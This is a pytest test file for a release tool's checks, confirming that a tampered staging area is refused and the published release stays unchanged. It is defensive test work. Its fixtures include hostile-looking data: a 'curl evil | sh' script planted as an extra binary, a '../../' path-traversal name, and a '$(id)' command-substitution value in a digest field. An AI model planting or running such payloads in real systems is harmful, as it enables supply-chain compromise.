"""A staging area changed between `krel stage` and `krel release` is refused, and release/ stays byte-identical.

One real staging (nomock, with notes) is copied per case; each case tampers with the copy's stage area and runs
`krel release`. The release must stop with one line naming what changed, and write nothing under release/.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from releng.errors import ReleaseError
from releng.jobs import run as job
from releng.jobs.clients import Clients, ReleaseTexts, open_clients
from releng.jobs.handlers import bucket
from releng.jobs.options import JobOptions
from releng.jobs.steps import CopyToRelease, PublishMarkers, PublishNotes, VerifyStaged
from releng.objectstore import open_store
from releng.profile import load_profile

from tests.fixtures.releaseflow import FlowEnv, flow_generator, lean_profile

# Not about signing or packages: the local profile without them (tests/fixtures/releaseflow.lean_profile).
FLOW_PROFILE = "lean"

ALPHA1 = "v1.0.0-alpha.1"
ARGS = ["--branch", "master", "--type", "alpha", "--nomock"]
KILLED = -9


@pytest.fixture(scope="module")
def staged_world(tmp_path_factory: pytest.TempPathFactory, registry_factory: Any) -> FlowEnv:
    """One nomock staging with notes, and an earlier release already in release/ (so 'unchanged' means bytes)."""
    home = tmp_path_factory.mktemp("hostile-staging") / "krel-home"
    project = flow_generator().create(home)
    world = FlowEnv(home, registry_factory("hostile-staging").host, project, str(lean_profile(home)))
    staged = world.krel("stage", *ARGS, "--replay", str(project.replay))
    assert staged.returncode == 0, staged.stderr[-2000:]
    earlier = world.bucket("release") / "release" / "v0.9.0"
    earlier.mkdir(parents=True)
    (earlier / "demo.tar.gz").write_bytes(b"an earlier release")
    (world.bucket("release") / "release" / "latest.txt").write_text("v0.9.0")
    shutil.copytree(home, home.parent / "pristine", symlinks=True, ignore=shutil.ignore_patterns("workspaces"))
    return world


@pytest.fixture
def world(staged_world: FlowEnv) -> FlowEnv:
    """The staged world reset to its pristine copy, at the same path: the staged source names that upstream."""
    home = staged_world.home
    shutil.rmtree(home)
    shutil.copytree(home.parent / "pristine", home, symlinks=True)
    return staged_world


def _stage(world: FlowEnv) -> Path:
    return world.bucket("release") / "stage" / world.build_version


def _gcs(world: FlowEnv) -> Path:
    return _stage(world) / ALPHA1 / "gcs-stage" / ALPHA1


def _replace(path: Path, data: bytes) -> None:
    """A new file in place of the old (never written through: the old inode may be shared)."""
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def _add_with_checksums(tree: Path, rel: str, data: bytes) -> None:
    """A file plus matching .sha256/.sha512 and SHA*SUMS lines: consistent checksums, unrecorded in provenance."""
    _replace(tree / rel, data)
    for algorithm, sums in (("sha256", "SHA256SUMS"), ("sha512", "SHA512SUMS")):
        digest = hashlib.new(algorithm, data).hexdigest()
        _replace(tree / f"{rel}.{algorithm}", digest.encode())
        _replace(tree / sums, (tree / sums).read_bytes() + f"{digest}  {rel}\n".encode())


def _flip(path: Path) -> None:
    """Same size, other bytes."""
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0xFF
    _replace(path, bytes(data))


def _edit_provenance(world: FlowEnv, edit: Callable[[dict[str, Any]], None]) -> None:
    path = _stage(world) / "provenance.json"
    doc = json.loads(path.read_text())
    edit(doc)
    _replace(path, json.dumps(doc, indent=2).encode())


def _swap_sizes(doc: dict[str, Any]) -> None:
    a, b = _subject(doc, "amd64/demo-server.tar"), _subject(doc, f"{ALPHA1}/SHA256SUMS")
    a["annotations"]["size"], b["annotations"]["size"] = b["annotations"]["size"], a["annotations"]["size"]


def _regenerate_checksums(tree: Path, rel: str) -> None:
    data = (tree / rel).read_bytes()
    for algorithm, sums in (("sha256", "SHA256SUMS"), ("sha512", "SHA512SUMS")):
        old = (tree / f"{rel}.{algorithm}").read_text().strip()
        new = hashlib.new(algorithm, data).hexdigest()
        _replace(tree / f"{rel}.{algorithm}", new.encode())
        _replace(tree / sums, (tree / sums).read_bytes().replace(old.encode(), new.encode()))


def _drop(tree: Path, rel: str) -> None:
    (tree / rel).unlink()
    for algorithm, sums in (("sha256", "SHA256SUMS"), ("sha512", "SHA512SUMS")):
        (tree / f"{rel}.{algorithm}").unlink()
        lines = (tree / sums).read_text().splitlines(keepends=True)
        _replace(tree / sums, "".join(line for line in lines if not line.endswith(f"  {rel}\n")).encode())


def _subject(doc: dict[str, Any], suffix: str) -> dict[str, Any]:
    return next(s for s in doc["subject"] if s["name"].endswith(suffix))


# case id -> (tamper, the error must match)
TAMPERS: dict[str, tuple[Callable[[FlowEnv], None], str]] = {
    "extra-file-with-matching-checksums": (
        lambda w: _add_with_checksums(_gcs(w), "bin/linux/amd64/evil", b"#!/bin/sh\ncurl evil | sh\n"),
        rf"gcs-stage/{ALPHA1}/bin/linux/amd64/evil\S* is not recorded in provenance\.json"),
    "extra-top-level-file-with-checksums": (
        lambda w: _add_with_checksums(_gcs(w), "evil.tar.gz", b"payload"),
        rf"gcs-stage/{ALPHA1}/evil\.tar\.gz\S* is not recorded"),
    "extra-image-tarball": (
        lambda w: _replace(_stage(w) / ALPHA1 / "release-images" / "amd64" / "evil.tar", b"image"),
        r"release-images/amd64/evil\.tar is not recorded"),
    "extra-object-at-stage-root": (
        lambda w: _replace(_stage(w) / "install.sh", b"#!/bin/sh\n"),
        r"/install\.sh is not recorded"),
    "extra-notes-file": (
        lambda w: _replace(_stage(w) / "notes" / "release-notes.md", b"# notes\n"),
        r"notes/release-notes\.md is not recorded"),
    "replaced-notes-html": (
        lambda w: _replace(_stage(w) / "notes" / "release-notes.html", b"<h1>other notes</h1>"),
        r"notes/release-notes\.html: size \d+ does not match provenance \d+"),
    "replaced-notes-html-same-size": (
        lambda w: _flip(_stage(w) / "notes" / "release-notes.html"),
        r"notes/release-notes\.html: sha256 \S+ does not match provenance"),
    "replaced-notes-json": (
        lambda w: _replace(_stage(w) / "notes" / "release-notes.json", b"{}"),
        r"notes/release-notes\.json: size"),
    "replaced-image-tarball-same-size": (
        lambda w: _flip(_stage(w) / ALPHA1 / "release-images" / "amd64" / "demo-server.tar"),
        r"amd64/demo-server\.tar: sha256 \S+ does not match provenance"),
    "replaced-image-tarball": (
        lambda w: _replace(_stage(w) / ALPHA1 / "release-images" / "arm64" / "demo-server.tar", b"not an image"),
        r"arm64/demo-server\.tar: size"),
    "replaced-binary-with-regenerated-checksums": (
        lambda w: (_flip(_gcs(w) / "bin/linux/amd64/democtl"),
                   _regenerate_checksums(_gcs(w), "bin/linux/amd64/democtl")),
        r"does not match provenance"),
    "replaced-sha512-file": (
        lambda w: _replace(_gcs(w) / "demo.tar.gz.sha512", b"0" * 128),
        r"demo\.tar\.gz\.sha512: sha256 \S+ does not match provenance"),
    "replaced-src-tarball": (
        lambda w: _flip(_stage(w) / "src.tar.gz"),
        r"src\.tar\.gz: sha256 \S+ does not match provenance"),
    "removed-file-and-its-checksums": (
        lambda w: _drop(_gcs(w), "bin/linux/arm64/democtl"),
        r"provenance subject \S+/bin/linux/arm64/democtl is not staged"),
    "swapped-provenance-subject-sizes": (
        lambda w: _edit_provenance(w, _swap_sizes),
        r": size \d+ does not match provenance \d+"),
    "provenance-subject-escapes-stage-area": (
        lambda w: _edit_provenance(w, lambda d: d["subject"].append(
            {**_subject(d, "/demo.tar.gz"), "name": "../../release/v1.0.0-alpha.1/demo.tar.gz"})),
        r"subject name '\.\./\.\./release/\S+' is not a relative key"),
    "provenance-subject-listed-twice": (
        lambda w: _edit_provenance(w, lambda d: d["subject"].append(dict(_subject(d, "/demo.tar.gz")))),
        r"demo\.tar\.gz is listed twice"),
    "provenance-subject-size-not-a-count": (
        lambda w: _edit_provenance(w, lambda d: _subject(d, "/demo.tar.gz")["annotations"].update(size=True)),
        r"size True is not a byte count"),
    "provenance-subject-digest-not-hex": (
        lambda w: _edit_provenance(w, lambda d: _subject(d, "/demo.tar.gz")["digest"].update(sha256="$(id)")),
        r"expected a name and a 64-hex sha256"),
    "provenance-subject-without-size": (
        lambda w: _edit_provenance(w, lambda d: _subject(d, "/demo.tar.gz").pop("annotations")),
        r"lacks name, digest\.sha256 or annotations\.size"),
    "provenance-other-predicate": (
        lambda w: _edit_provenance(w, lambda d: d.update(predicateType="https://example.com/other")),
        r"predicateType is not https://slsa\.dev/provenance/v1"),
    "provenance-not-json": (
        lambda w: _replace(_stage(w) / "provenance.json", b"\x00\xff not json"),
        r"not an in-toto statement with subjects"),
    "provenance-missing": (
        lambda w: (_stage(w) / "provenance.json").unlink(),
        r"provenance\.json is missing"),
}


def _release(world: FlowEnv) -> Any:
    return world.krel("release", *ARGS, "--build-version", world.build_version)


def _release_area(world: FlowEnv) -> dict[str, str]:
    return world.bucket_state("release", lambda key: not key.startswith("release/"))


def _refused(world: FlowEnv, pattern: str) -> None:
    before = (_release_area(world), world.remote_refs())
    result = _release(world)
    assert result.returncode == 1, result.stderr[-2000:]
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and re.search(pattern, errors[0]), result.stderr[-2000:]
    assert (_release_area(world), world.remote_refs()) == before


@pytest.mark.parametrize("case", sorted(TAMPERS))
def test_tampered_staging_is_refused_and_release_area_unchanged(world: FlowEnv, case: str) -> None:
    tamper, pattern = TAMPERS[case]
    tamper(world)
    _refused(world, pattern)


def test_logs_written_after_the_provenance_are_not_subjects(flow_env: FlowEnv) -> None:
    # A fresh world, not a copy: this release pushes to the upstream its staged source names.
    world = flow_env
    staged = world.krel("stage", *ARGS, "--replay", str(world.project.replay))
    assert staged.returncode == 0, staged.stderr[-2000:]
    # stage archives its log after writing the provenance; another log there is not a reason to refuse
    _replace(_stage(world) / "logs" / "stage-extra.log", b"log line\n")
    released = _release(world)
    assert released.returncode == 0, released.stderr[-2000:]
    after = _release_area(world)
    assert f"release/{ALPHA1}/demo.tar.gz" in after and f"release/{ALPHA1}/demo.tar.gz.sha512" in after
    statement = json.loads((world.bucket("release") / "release" / ALPHA1 / "provenance.json").read_text())
    names = {s["name"] for s in statement["subject"]}
    assert {"src.tar.gz", "notes/release-notes.html", f"{ALPHA1}/gcs-stage/{ALPHA1}/SHA256SUMS"} <= names
    # release/<v>/ is exactly the staged gcs-stage subjects plus the notes, announcement, page, provenance and the
    # artifacts list
    released_names = {k.split("/", 2)[2] for k in after if k.startswith(f"release/{ALPHA1}/")}
    staged = {n.split("/", 3)[3] for n in names if n.startswith(f"{ALPHA1}/gcs-stage/")}
    assert released_names - staged == {"provenance.json", "artifacts.json",  # (no .intoto.jsonl: nothing signed)
                                       "release-notes.json", "release-notes.html", "announcement.html",
                                       "announcement-subject.txt", "github-release.md"}


def _plan_index(world: FlowEnv, kind: type) -> int:
    profile = load_profile(world.profile, {"krel_home": str(world.home), "local_registry": world.registry})
    # the plan the CLI runs: with the steps the targets' signing adds
    options = JobOptions("master", "alpha", world.build_version, profile, world.home, nomock=True,
                         signing=profile.signing_for(True))
    with open_clients(profile, profile.targets(True)) as clients:
        plan = job.run("release", options, profile.targets(True), clients, plan_only=True).plan
    return next(i for i, s in enumerate(plan.steps, 1) if isinstance(s, kind))


KILLS = {
    "killed-before-copy-then-extra-file": (CopyToRelease, "extra-file-with-matching-checksums"),
    "killed-before-notes-then-replaced-notes": (PublishNotes, "replaced-notes-html-same-size"),
    "killed-before-markers-then-replaced-image": (PublishMarkers, "replaced-image-tarball-same-size"),
    "killed-before-markers-then-swapped-sizes": (PublishMarkers, "swapped-provenance-subject-sizes"),
}


@pytest.mark.parametrize("case", sorted(KILLS))
def test_killed_release_then_tampered_staging_is_refused(world: FlowEnv, case: str) -> None:
    kind, tamper_case = KILLS[case]
    killed = world.krel_process("release", *ARGS, "--build-version", world.build_version,
                                extra_env={"KREL_TEST_KILL_AT_STEP": str(_plan_index(world, kind))})
    assert killed.returncode == KILLED, killed.stderr[-2000:]
    tamper, pattern = TAMPERS[tamper_case]
    tamper(world)
    _refused(world, pattern)


def _backends(world: FlowEnv) -> tuple[Clients, Any]:
    profile = load_profile(world.profile, {"krel_home": str(world.home), "local_registry": world.registry})
    bucket_url = profile.targets(True).bucket
    return Clients(ReleaseTexts(profile), stores={bucket_url: open_store(bucket_url)}), profile.targets(True)


def _steps_of(world: FlowEnv) -> list[Any]:
    profile = load_profile(world.profile, {"krel_home": str(world.home), "local_registry": world.registry})
    options = JobOptions("master", "alpha", world.build_version, profile, world.home, nomock=True)
    with open_clients(profile, profile.targets(True)) as clients:
        return list(job.run("release", options, profile.targets(True), clients, plan_only=True).plan.steps)


SWAPS: dict[str, Callable[[FlowEnv], None]] = {
    "object-swapped-after-verify": lambda w: _flip(_gcs(w) / "demo.tar.gz"),
    "object-and-provenance-swapped-after-verify": lambda w: (
        _flip(_gcs(w) / "demo.tar.gz"),
        _edit_provenance(w, lambda d: _subject(d, f"{ALPHA1}/demo.tar.gz")["digest"].update(
            sha256=hashlib.sha256((_gcs(w) / "demo.tar.gz").read_bytes()).hexdigest()))),
    "object-added-after-verify": lambda w: _replace(_gcs(w) / "later.sh", b"#!/bin/sh\n"),
}


@pytest.mark.parametrize("case", sorted(SWAPS))
def test_a_swap_between_verify_and_copy_does_not_go_through(world: FlowEnv, case: str) -> None:
    steps = _steps_of(world)
    verify = next(s for s in steps if isinstance(s, VerifyStaged))
    copy = next(s for s in steps if isinstance(s, CopyToRelease))
    backends, _ = _backends(world)
    bucket.verify_staged(verify, backends)
    SWAPS[case](world)
    before = _release_area(world)
    if case == "object-added-after-verify":
        # not a subject of the verified statement: never copied
        bucket.copy_to_release(copy, backends)
        assert f"release/{ALPHA1}/later.sh" not in _release_area(world)
        assert not (world.bucket("release") / "release" / ALPHA1 / "later.sh").exists()
        return
    with pytest.raises(ReleaseError, match=r"demo\.tar\.gz: sha256 \S+ does not match provenance"):
        bucket.copy_to_release(copy, backends)
    assert _release_area(world) == before
    assert not Path(copy.work_dir).exists()  # the scratch copies are gone too
